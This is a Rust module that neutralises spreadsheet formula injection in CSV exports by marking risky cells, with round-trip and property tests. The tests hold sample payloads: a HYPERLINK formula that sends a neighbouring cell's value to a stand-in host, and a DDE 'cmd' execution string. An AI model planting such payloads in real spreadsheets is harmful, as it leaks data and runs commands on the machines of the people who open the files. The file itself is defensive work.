//! Cells of CSV that a spreadsheet would take for formulas.
//!
//! Tenants name resources, sources and ids, and operators open what we write. A cell that
//! begins with `=`, `+`, `-` or `@` is a formula, which can send what stands beside it
//! elsewhere. So a `'` is put before it, by which spreadsheets know text, and taken off
//! again where we read CSV. Numbers and telephone numbers stay as they are.
//!
//! A program that separates cells by another character than the comma begins a cell after
//! it, whatever is in quotes. So what follows a `;`, a tab or the end of a line within a
//! cell is treated as a cell is.

use std::borrow::Cow;

/// Marks what follows as text.
const MARK: u8 = b'\'';

/// Writes records, each cell so that no spreadsheet takes it for a formula, or all as they
/// are.
pub(crate) struct CellWriter {
    inner: csv::Writer<Vec<u8>>,
    raw: bool,
}

impl CellWriter {
    /// Returns a writer with nothing written.
    pub(crate) fn new(raw: bool) -> Self {
        Self {
            inner: csv::Writer::from_writer(Vec::new()),
            raw,
        }
    }

    /// Writes a record.
    pub(crate) fn write_record<'a>(
        &mut self,
        cells: impl IntoIterator<Item = &'a str>,
    ) -> csv::Result<()> {
        if self.raw {
            return self.inner.write_record(cells);
        }
        let cells = cells.into_iter();
        self.inner
            .write_record(cells.map(|cell| mark(cell.as_bytes())))
    }

    /// Returns everything that was written.
    pub(crate) fn finish(self) -> anyhow::Result<Vec<u8>> {
        Ok(self.inner.into_inner()?)
    }
}

/// Returns a cell in which nothing is a formula. [`unmark`] gives it back.
pub(crate) fn mark(cell: &[u8]) -> Cow<'_, [u8]> {
    if !begins(cell).any(|at| is_formula(part(cell, at))) {
        return Cow::Borrowed(cell);
    }
    let mut marked = Vec::with_capacity(cell.len() + 2);
    for at in begins(cell) {
        let part = part(cell, at);
        if is_formula(part) {
            marked.push(MARK);
        }
        marked.extend_from_slice(part);
    }
    Cow::Owned(marked)
}

/// Returns a cell as it was before it was marked. One that never was stays as it is, unless
/// it has a `'` before a formula.
pub(crate) fn unmark(cell: &[u8]) -> Cow<'_, [u8]> {
    let marked = |part: &[u8]| part.first() == Some(&MARK) && is_formula(part);
    if !begins(cell).any(|at| marked(part(cell, at))) {
        return Cow::Borrowed(cell);
    }
    let mut plain = Vec::with_capacity(cell.len());
    for at in begins(cell) {
        let part = part(cell, at);
        // What is behind a mark is a formula as well, so one mark is one that was put there.
        plain.extend_from_slice(&part[usize::from(marked(part))..]);
    }
    Cow::Owned(plain)
}

/// Returns where a cell may begin: at the start, and after what may separate cells.
fn begins(cell: &[u8]) -> impl Iterator<Item = usize> + '_ {
    let after = |at: usize| (at < cell.len()).then_some(at);
    let inside = cell.iter().enumerate();
    let inside = inside.filter_map(move |(at, byte)| ends_cell(*byte).then(|| after(at + 1))?);
    std::iter::once(0).chain(inside)
}

fn ends_cell(byte: u8) -> bool {
    matches!(byte, b';' | b'\t' | b'\r' | b'\n')
}

/// Returns what stands from there to the end of the cell, with what ends it.
fn part(cell: &[u8], from: usize) -> &[u8] {
    let rest = &cell[from..];
    let end = rest.iter().position(|byte| ends_cell(*byte));
    &rest[..end.map_or(rest.len(), |end| end + 1)]
}

/// Returns whether a spreadsheet may take it for a formula, with marks before it or not.
fn is_formula(part: &[u8]) -> bool {
    // Bytes that are no UTF-8 are characters that begin no formula.
    let text = String::from_utf8_lossy(part);
    let text = text.trim_end_matches([';', '\t', '\r', '\n']);
    let text = text.trim_start_matches(is_passed_over);
    match text.chars().next() {
        Some('+') => !is_number(&text[1..]) && !is_telephone_number(&text[1..]),
        Some('-') => !is_number(&text[1..]),
        // The wide forms are read as the others where wide letters are usual.
        Some('=' | '@' | '＝' | '＋' | '－' | '＠') => true,
        _ => false,
    }
}

/// Returns whether spreadsheets may pass over a character before a formula.
fn is_passed_over(character: char) -> bool {
    character.is_whitespace()
        || character.is_control()
        || matches!(character, '\'' | '\u{200b}' | '\u{feff}')
}

/// Returns whether the text behind a sign is a decimal number.
fn is_number(text: &str) -> bool {
    let (mantissa, exponent) = match text.split_once(['e', 'E']) {
        Some((mantissa, exponent)) => (mantissa, Some(exponent)),
        None => (text, None),
    };
    let digits = |text: &str| !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_digit());
    let decimal = match mantissa.split_once('.') {
        Some((whole, fraction)) => digits(whole) && digits(fraction),
        None => digits(mantissa),
    };
    decimal && exponent.is_none_or(|exponent| digits(exponent.trim_start_matches(['+', '-'])))
}

/// Returns whether the text behind a `+` is a telephone number: digits, in groups or not. It
/// has neither letters nor what refers to a cell or calls a program.
fn is_telephone_number(text: &str) -> bool {
    let groups = |character: char| matches!(character, ' ' | '-' | '.' | '/' | '(' | ')');
    text.starts_with(|first: char| first.is_ascii_digit())
        && text
            .chars()
            .all(|character| character.is_ascii_digit() || groups(character))
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn marked(cell: &str) -> String {
        String::from_utf8(mark(cell.as_bytes()).into_owned()).unwrap()
    }

    #[test]
    fn what_could_be_a_formula_is_marked() {
        for cell in [
            "=1+1",
            "=HYPERLINK(\"http://x/?\"&A1)",
            "@SUM(A1)",
            "+A1",
            "-2+3+cmd|' /C calc'!A0",
            "-",
            "+",
            "+49 170 ext. 1",
            "+1e",
            "-1-2",
            " =1+1",
            "\u{a0}=1",
            "'=1+1",
            "''=1+1",
            "＝1+1",
        ] {
            assert_eq!(marked(cell), format!("'{cell}"), "{cell}");
        }
        assert_eq!(marked("\t=1"), "\t'=1");
        assert_eq!(marked("x;=1;y"), "x;'=1;y");
        assert_eq!(marked("x\r\n@y"), "x\r\n'@y");
    }

    #[test]
    fn numbers_names_and_telephone_numbers_stay() {
        for cell in [
            "",
            "ada@example.com",
            "12.5",
            "-12.50",
            "+12.5",
            "-1e-9",
            "+49301234567",
            "+49 (30) 123-45.67/8",
            "'quoted'",
            "'",
            "'+49170",
            "a=b",
            "2026-10-01T08:00:00.000Z",
            "tel:+49",
            "{\"a\":[1,-2],\"b\":\"=1\"}",
            "x; y",
            ";",
        ] {
            assert_eq!(marked(cell), cell, "{cell}");
            assert_eq!(*unmark(cell.as_bytes()), *cell.as_bytes(), "{cell}");
        }
    }

    #[test]
    fn a_record_may_be_written_as_it_is() {
        let written = |raw| {
            let mut writer = CellWriter::new(raw);
            writer.write_record(["=a", "b,c", "+49"]).unwrap();
            writer.write_record(["", "", ""]).unwrap();
            String::from_utf8(writer.finish().unwrap()).unwrap()
        };
        assert_eq!(written(false), "'=a,\"b,c\",+49\n,,\n");
        assert_eq!(written(true), "=a,\"b,c\",+49\n,,\n");
    }

    /// Text with much of what matters.
    fn text() -> impl Strategy<Value = String> {
        prop_oneof!["[-=+@';\t\r\n \u{a0}＝1e.(A]{0,12}", any::<String>()]
    }

    proptest! {
        #[test]
        fn any_text_comes_back(cell in text()) {
            let marked = mark(cell.as_bytes()).into_owned();
            prop_assert_eq!(&*unmark(&marked), cell.as_bytes());
            // A mark does not make it less of what it was.
            let twice = mark(&marked);
            prop_assert_eq!(unmark(&twice), Cow::Borrowed(&marked[..]));
        }

        #[test]
        fn any_bytes_come_back(cell: Vec<u8>) {
            let marked = mark(&cell);
            prop_assert_eq!(&*unmark(&marked), &cell[..]);
        }

        /// Written from the rule: no cell, however it is cut, begins with a formula.
        #[test]
        fn no_part_is_a_formula(cell in text()) {
            let cell = marked(&cell);
            for part in cell.split([';', '\t', '\r', '\n']) {
                let begin = part.trim_start_matches(|c: char| c.is_whitespace() || c.is_control());
                let bare = |text: &str| text.chars().all(|c| "0123456789+-.eE ()/".contains(c));
                let risky = begin.starts_with(['=', '@', '＝']);
                prop_assert!(!risky, "{cell:?}");
                prop_assert!(!begin.starts_with(['+', '-']) || bare(begin), "{cell:?}");
            }
        }
    }
}
